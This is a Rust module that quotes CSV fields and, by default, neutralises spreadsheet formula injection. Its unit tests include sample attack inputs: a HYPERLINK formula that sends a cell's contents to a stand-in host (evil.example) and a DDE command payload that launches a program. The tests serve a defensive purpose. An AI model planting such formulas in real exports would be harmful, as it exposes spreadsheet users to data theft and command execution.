//! The one way Assent writes a CSV field: quoted as RFC 4180 wants when it holds a comma, a quote or a
//! line break, and, unless raw output was asked for (`ASSENT_CSV_RAW=true`, for machine consumers),
//! neutralised as OWASP describes for CSV injection: a field a spreadsheet would run as a formula
//! (starting with `=`, `+`, `-`, `@`, a tab or a carriage return) is written with a leading `'`, so it
//! is shown as the text it is. Every CSV (exports, downloads, send-files, import error reports) uses it.

/// How text fields are written.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Cells {
    /// Write fields exactly as stored, formulas included.
    pub raw: bool,
}

impl Cells {
    pub const NEUTRALISED: Cells = Cells { raw: false };

    /// Appends `v` as one field.
    pub fn write(self, out: &mut String, v: &str) {
        let formula = !self.raw && v.starts_with(['=', '+', '-', '@', '\t', '\r']);
        if v.contains([',', '"', '\r', '\n']) {
            out.push('"');
            if formula {
                out.push('\'');
            }
            out.push_str(&v.replace('"', "\"\""));
            out.push('"');
        } else {
            if formula {
                out.push('\'');
            }
            out.push_str(v);
        }
    }

    /// `v` as one field.
    pub fn field(self, v: &str) -> String {
        let mut out = String::with_capacity(v.len() + 1);
        self.write(&mut out, v);
        out
    }
}

#[cfg(test)]
mod tests {
    use super::Cells;

    #[test]
    fn formulas_are_written_as_text_unless_raw() {
        let n = Cells::NEUTRALISED;
        for (v, expected) in [
            (
                "=HYPERLINK(\"http://evil.example/?\"&A2,\"Open\")",
                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"Open\"\")\"",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
            ("\tx", "'\tx"),
            ("\rx", "\"'\rx\""),
            ("Ann", "Ann"),
            ("a,b", "\"a,b\""),
            ("", ""),
        ] {
            assert_eq!(n.field(v), expected, "{v:?}");
        }
        let raw = Cells { raw: true };
        assert_eq!(raw.field("-2+3"), "-2+3");
        assert_eq!(raw.field("=1,2"), "\"=1,2\"");
    }
}
